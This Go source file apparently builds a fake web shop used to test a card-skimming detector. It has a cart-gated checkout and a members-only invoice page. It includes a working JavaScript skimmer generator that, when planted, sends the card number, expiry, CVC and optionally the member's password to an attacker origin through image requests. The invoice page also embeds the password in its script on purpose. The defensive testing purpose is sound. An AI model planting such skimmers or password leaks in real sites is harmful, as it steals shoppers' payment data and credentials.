package demo

import (
	"context"
	"errors"
	"fmt"
	"html/template"
	"io"
	"net/http"
	"sync"
	"sync/atomic"
	"time"

	"github.com/skimguard/skimguard/carddata"
)

// Member is the user name of the JourneyShop's member account.
const Member = "monitor"

// JourneyOptions says where a JourneyShop listens and what its member's
// password is.
type JourneyOptions struct {
	// Port is the port of every origin; 0 picks free ports (tests).
	Port int
	// Password is the password of the member account, which the shop's
	// sign-in accepts with the user name Member. Required.
	Password string
}

// JourneyShop is a shop whose payment pages a shopper reaches only through
// a journey, as on real shops:
//   - a one-page checkout behind a cart: /checkout sends a shopper without
//     a cart to /cart; a cart is made on the product page /product/42. Its
//     shipping step's button (#to-payment) loads the payment step's
//     scripts, which add the card fields;
//   - an invoice payment page behind a sign-in: /account/pay sends a
//     shopper who has not signed in (/login, user Member) to /login. Its
//     own script is served to members only.
//
// Like the demo shop, it varies on every load (nonces, CSRF tokens, cart
// and session ids, an A/B test, cache busters, build stamps), and has a
// payment provider, an analytics CDN and an attacker on origins of their
// own. It is careless in one way: the invoice page writes the member's
// remembered sign-in, password included, into its own script, so that
// tests can prove that skimguard keeps such secrets out of what it stores.
type JourneyShop struct {
	// Base URLs of the four origins, without a trailing slash.
	ShopURL, ProviderURL, CDNURL, AttackerURL string

	password string
	// plantedCheckout plants a skimmer in the checkout's payment-step
	// script; plantedAccount one in the members' script. renamed renames
	// the buttons the journeys click.
	plantedCheckout, plantedAccount, renamed atomic.Bool
	loads                                    atomic.Int64 // numbers the pages served
	checkouts                                atomic.Int64 // drives the checkout's A/B test
	stolen                                   atomic.Int64 // requests that carried the test card
	signIns                                  atomic.Int64

	mu       sync.Mutex
	carts    map[string]bool
	sessions map[string]bool

	servers []*http.Server
}

// StartJourneys starts the shop's four origins.
func StartJourneys(ctx context.Context, opts JourneyOptions) (*JourneyShop, error) {
	if opts.Password == "" {
		return nil, errors.New("demo journeys shop: give the member's password")
	}
	s := &JourneyShop{password: opts.Password, carts: map[string]bool{}, sessions: map[string]bool{}}
	var err error
	s.servers, err = listen(ctx, opts.Port, []origin{
		{ShopHost, s.shopHandler(), &s.ShopURL},
		{ProviderHost, (&Shop{}).providerHandler(), &s.ProviderURL},
		{CDNHost, (&Shop{}).cdnHandler(), &s.CDNURL},
		{AttackerHost, s.attackerHandler(), &s.AttackerURL},
	})
	if err != nil {
		return nil, err
	}
	return s, nil
}

// CheckoutURL is the cart-gated one-page checkout; ProductURL the page a
// cart starts from.
func (s *JourneyShop) CheckoutURL() string { return s.ShopURL + "/checkout" }

// ProductURL is the product page whose button makes a cart.
func (s *JourneyShop) ProductURL() string { return s.ShopURL + "/product/42" }

// LoginURL is the members' sign-in page.
func (s *JourneyShop) LoginURL() string { return s.ShopURL + "/login" }

// AccountPayURL is the members-only invoice payment page.
func (s *JourneyShop) AccountPayURL() string { return s.ShopURL + "/account/pay" }

// PlantCheckout compromises the checkout's payment-step script, which only
// a shopper who filled a cart and the shipping step loads: it sends the
// card to the attacker as it is typed. PlantAccount compromises the
// members' script the same way, and it sends the member's remembered
// password along.
func (s *JourneyShop) PlantCheckout(on bool) { s.plantedCheckout.Store(on) }

// PlantAccount: see PlantCheckout.
func (s *JourneyShop) PlantAccount(on bool) { s.plantedAccount.Store(on) }

// RenameButtons renames the buttons the journeys click, as a redesign
// does: #to-payment becomes #continue, #login becomes #sign-in.
func (s *JourneyShop) RenameButtons(on bool) { s.renamed.Store(on) }

// Stolen is how many requests the attacker received that carried the
// test card. The shop keeps no card data.
func (s *JourneyShop) Stolen() int { return int(s.stolen.Load()) }

// SignIns is how many times the member signed in.
func (s *JourneyShop) SignIns() int { return int(s.signIns.Load()) }

// Close stops every origin.
func (s *JourneyShop) Close() error {
	var errs []error
	for _, srv := range s.servers {
		errs = append(errs, srv.Close())
	}
	return errors.Join(errs...)
}

// maxSessions bounds the carts and sessions the shop remembers.
const maxSessions = 10000

// remember keeps a new cart or session id in m and returns it.
func (s *JourneyShop) remember(m map[string]bool) string {
	id := token(12)
	s.mu.Lock()
	defer s.mu.Unlock()
	if len(m) >= maxSessions {
		clear(m)
	}
	m[id] = true
	return id
}

// has reports whether the request's cookie name holds an id kept in m.
func (s *JourneyShop) has(r *http.Request, name string, m map[string]bool) bool {
	c, err := r.Cookie(name)
	if err != nil {
		return false
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	return m[c.Value]
}

// page is what the shop's templates are given.
type page struct {
	Nonce, CSRF, Variant, ID string
	Now                      int64
	Provider, CDN            string
	Button                   string
	Failed                   bool
	Remember                 map[string]string
}

func (s *JourneyShop) page(w http.ResponseWriter) *page {
	n := s.loads.Add(1)
	p := &page{Nonce: token(12), CSRF: token(16), Now: time.Now().UnixMilli(), Provider: s.ProviderURL, CDN: s.CDNURL, ID: fmt.Sprint(10000 + n)}
	h := w.Header()
	h.Set("Content-Type", "text/html; charset=utf-8")
	h.Set("Content-Security-Policy-Report-Only", "script-src 'nonce-"+p.Nonce+"' 'strict-dynamic'; report-uri /csp-report?id="+token(4))
	h.Set("X-Frame-Options", "DENY")
	h.Set("X-Content-Type-Options", "nosniff")
	h.Set("X-Request-Id", token(8))
	http.SetCookie(w, &http.Cookie{Name: "csrf", Value: p.CSRF, Path: "/", HttpOnly: true})
	return p
}

// csrfOK reports whether a form's CSRF token is the one its page set.
func csrfOK(r *http.Request) bool {
	c, err := r.Cookie("csrf")
	return err == nil && c.Value != "" && r.PostFormValue("csrf") == c.Value
}

var journeyTmpl = template.Must(template.New("").Parse(`
{{define "head"}}<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<link rel="stylesheet" href="/static/shop.css">
<script nonce="{{.Nonce}}">window.shop = {"csrf": "{{.CSRF}}", "view": "{{.ID}}", "renderedAt": {{.Now}}, "provider": "{{.Provider}}"};</script>
<script src="/static/app.js"></script>
<script src="{{.CDN}}/analytics.js?cb={{.Now}}" async></script>
{{end}}

{{define "product"}}{{template "head" .}}<title>Trail boots — Outfitters</title></head><body>
<h1>Trail boots</h1><p>€84.00</p>
<form method="post" action="/cart/add"><input type="hidden" name="csrf" value="{{.CSRF}}"><input type="hidden" name="sku" value="42">
<button id="add-to-cart" type="submit">Add to cart</button></form>
</body></html>{{end}}

{{define "cart"}}{{template "head" .}}<title>Cart — Outfitters</title></head><body>
<h1>Cart</h1>{{if .ID}}<p>1 × Trail boots, €84.00</p><a id="checkout" href="/checkout">Proceed to checkout</a>{{else}}<p>Your cart is empty.</p>{{end}}
</body></html>{{end}}

{{define "checkout"}}{{template "head" .}}<script src="/static/{{.Variant}}.js"></script>
<script src="/static/checkout.js?v=3.2.0" defer></script>
<title>Checkout — Outfitters</title></head><body>
<h1>Checkout</h1><p>Order {{.ID}}</p>
<section id="shipping"><h2>Shipping</h2>
 <label for="email">Email</label> <input id="email" name="email" type="email" autocomplete="email">
 <label for="postcode">Postcode</label> <input id="postcode" name="postcode" autocomplete="postal-code">
 <label for="country">Country</label> <select id="country" name="country"><option value="">Choose…</option><option value="FR">France</option><option value="DE">Germany</option><option value="NL">Netherlands</option></select>
 <button id="{{.Button}}" type="button">Continue to payment</button>
</section>
<section id="payment" hidden><h2>Payment</h2></section>
</body></html>{{end}}

{{define "login"}}{{template "head" .}}<title>Sign in — Outfitters</title></head><body>
<h1>Sign in</h1>{{if .Failed}}<p role="alert">Wrong user name or password.</p>{{end}}
<form method="post" action="/login"><input type="hidden" name="csrf" value="{{.CSRF}}">
 <label for="user">Username</label> <input id="user" name="user" autocomplete="username">
 <label for="password">Password</label> <input id="password" name="password" type="password" autocomplete="current-password">
 <button id="{{.Button}}" type="submit">Sign in</button>
</form></body></html>{{end}}

{{define "account"}}{{template "head" .}}<title>Your account — Outfitters</title></head><body>
<h1>Welcome back</h1><a id="pay-link" href="/account/pay">Pay your invoice</a>
</body></html>{{end}}

{{define "pay"}}{{template "head" .}}<script nonce="{{.Nonce}}">window.account = {"invoice": "INV-{{.ID}}", "remember": {"user": "{{index .Remember "user"}}", "password": "{{index .Remember "password"}}"}};</script>
<script src="/static/account.js?v=1.4.2" defer></script>
<script src="{{.Provider}}/v3/fields.js"></script>
<title>Pay your invoice — Outfitters</title></head><body>
<h1>Invoice INV-{{.ID}}</h1>
<form id="invoice-payment" action="{{.Provider}}/pay" method="post">
 <label for="cc-number">Card number</label> <input id="cc-number" name="cc-number" autocomplete="cc-number" inputmode="numeric">
 <label for="cc-exp">Expiry</label> <input id="cc-exp" name="cc-exp" autocomplete="cc-exp" placeholder="MM/YY">
 <label for="cc-csc">CVC</label> <input id="cc-csc" name="cc-csc" autocomplete="cc-csc">
 <button id="pay" type="submit">Pay €120.00</button>
</form></body></html>{{end}}
`))

func (s *JourneyShop) render(w http.ResponseWriter, name string, p *page) {
	if err := journeyTmpl.ExecuteTemplate(w, name, p); err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
	}
}

func (s *JourneyShop) shopHandler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /product/42", func(w http.ResponseWriter, r *http.Request) {
		s.render(w, "product", s.page(w))
	})
	mux.HandleFunc("POST /cart/add", func(w http.ResponseWriter, r *http.Request) {
		if !csrfOK(r) {
			http.Error(w, "the form expired: reload the page", http.StatusForbidden)
			return
		}
		http.SetCookie(w, &http.Cookie{Name: "cart", Value: s.remember(s.carts), Path: "/", HttpOnly: true})
		http.Redirect(w, r, "/cart", http.StatusSeeOther)
	})
	mux.HandleFunc("GET /cart", func(w http.ResponseWriter, r *http.Request) {
		p := s.page(w)
		if !s.has(r, "cart", s.carts) {
			p.ID = ""
		}
		s.render(w, "cart", p)
	})
	mux.HandleFunc("GET /checkout", func(w http.ResponseWriter, r *http.Request) {
		if !s.has(r, "cart", s.carts) {
			http.Redirect(w, r, "/cart", http.StatusFound)
			return
		}
		p := s.page(w)
		// Consecutive checkouts see both variants, so a baseline of two
		// loads or more knows both.
		p.Variant = "ab-a"
		if s.checkouts.Add(1)%2 == 0 {
			p.Variant = "ab-b"
		}
		p.Button = "to-payment"
		if s.renamed.Load() {
			p.Button = "continue"
		}
		s.render(w, "checkout", p)
	})
	mux.HandleFunc("GET /login", func(w http.ResponseWriter, r *http.Request) { s.login(w, false) })
	mux.HandleFunc("POST /login", func(w http.ResponseWriter, r *http.Request) {
		if !csrfOK(r) {
			http.Error(w, "the form expired: reload the page", http.StatusForbidden)
			return
		}
		if r.PostFormValue("user") != Member || r.PostFormValue("password") != s.password {
			w.WriteHeader(http.StatusUnauthorized)
			s.login(w, true)
			return
		}
		s.signIns.Add(1)
		http.SetCookie(w, &http.Cookie{Name: "member", Value: s.remember(s.sessions), Path: "/", HttpOnly: true})
		http.Redirect(w, r, "/account", http.StatusSeeOther)
	})
	mux.HandleFunc("GET /account", s.members(func(w http.ResponseWriter, r *http.Request) {
		s.render(w, "account", s.page(w))
	}))
	mux.HandleFunc("GET /account/pay", s.members(func(w http.ResponseWriter, r *http.Request) {
		p := s.page(w)
		p.Remember = map[string]string{"user": Member, "password": s.password}
		s.render(w, "pay", p)
	}))
	mux.HandleFunc("GET /static/account.js", s.members(func(w http.ResponseWriter, r *http.Request) {
		body := "// Outfitters accounts v1.4.2\ndocument.addEventListener('DOMContentLoaded', function () { document.body.dataset.member = '1'; });\n"
		if s.plantedAccount.Load() {
			body += skimmer(s.AttackerURL+"/m.gif", "invoice-payment", "&p=' + encodeURIComponent(window.account.remember.password) + '")
		}
		js(body)(w, r)
	}))
	mux.HandleFunc("GET /static/checkout.js", js(`// Outfitters checkout v3.2.0
(function () {
  var button = document.querySelector('#shipping button');
  button.addEventListener('click', function () {
    var ok = ['email', 'postcode', 'country'].every(function (id) { return document.getElementById(id).value; });
    if (!ok) return;
    document.getElementById('payment').hidden = false;
    ['/static/payment.js?v=3.2.0', window.shop.provider + '/v3/fields.js'].forEach(function (src) {
      var s = document.createElement('script'); s.src = src; document.head.appendChild(s);
    });
  });
})();`))
	mux.HandleFunc("GET /static/payment.js", func(w http.ResponseWriter, r *http.Request) {
		body := `// Outfitters payment step v3.2.0
(function () {
  document.getElementById('payment').insertAdjacentHTML('beforeend',
    '<form id="payment-form" action="' + window.shop.provider + '/pay" method="post">' +
    '<label for="card-number">Card number</label> <input id="card-number" name="cc-number" autocomplete="cc-number" inputmode="numeric">' +
    '<label for="card-expiry">Expiry</label> <input id="card-expiry" name="cc-exp" autocomplete="cc-exp" placeholder="MM/YY">' +
    '<label for="card-cvc">CVC</label> <input id="card-cvc" name="cc-csc" autocomplete="cc-csc">' +
    '<button id="pay" type="submit">Pay €84.00</button></form>');
})();
`
		if s.plantedCheckout.Load() {
			body += skimmer(s.AttackerURL+"/c.gif", "payment-form", "")
		}
		js(body)(w, r)
	})
	mux.HandleFunc("GET /static/app.js", js(`// Outfitters storefront v2.4.1
document.addEventListener('DOMContentLoaded', function () { document.documentElement.dataset.ready = '1'; });`))
	mux.HandleFunc("GET /static/ab-a.js", js(`document.documentElement.dataset.experiment = 'pay-button-green';`))
	mux.HandleFunc("GET /static/ab-b.js", js(`document.documentElement.dataset.experiment = 'pay-button-blue';`))
	mux.HandleFunc("GET /static/shop.css", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/css")
		fmt.Fprint(w, "body{font-family:sans-serif;max-width:40em;margin:2em auto}label{display:block;margin:.5em 0}")
	})
	mux.HandleFunc("/csp-report", func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusNoContent) })
	return mux
}

// login serves the sign-in page.
func (s *JourneyShop) login(w http.ResponseWriter, failed bool) {
	p := s.page(w)
	p.Failed, p.Button = failed, "login"
	if s.renamed.Load() {
		p.Button = "sign-in"
	}
	s.render(w, "login", p)
}

// members serves h to signed-in members, and sends others to the sign-in.
func (s *JourneyShop) members(h http.HandlerFunc) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		if !s.has(r, "member", s.sessions) {
			http.Redirect(w, r, "/login", http.StatusFound)
			return
		}
		h(w, r)
	}
}

// skimmer is code that sends the card fields of the form id to collector
// once a whole card is typed; extra is more query string, written inside
// a JavaScript string.
func skimmer(collector, form, extra string) string {
	return fmt.Sprintf(`(function(){var f=document.getElementById(%q);if(!f)return;var sent=false;
function grab(){var n=f['cc-number'].value,c=f['cc-csc'].value;if(sent||n.replace(/\D/g,'').length<15||c.length<3)return;sent=true;
new Image().src=%q+'?n='+encodeURIComponent(n)+'&e='+encodeURIComponent(f['cc-exp'].value)+'&c='+c+'%s';}
f.addEventListener('change',grab,true);f.addEventListener('blur',grab,true);})();
`, form, collector, extra)
}

func (s *JourneyShop) attackerHandler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		// Each scan types its own card: any card number written out counts.
		if got := r.URL.RequestURI() + "\n" + string(body); carddata.MaskPANs(got) != got {
			s.stolen.Add(1)
		}
		w.Header().Set("Content-Type", "image/gif")
		w.Write([]byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"))
	})
}
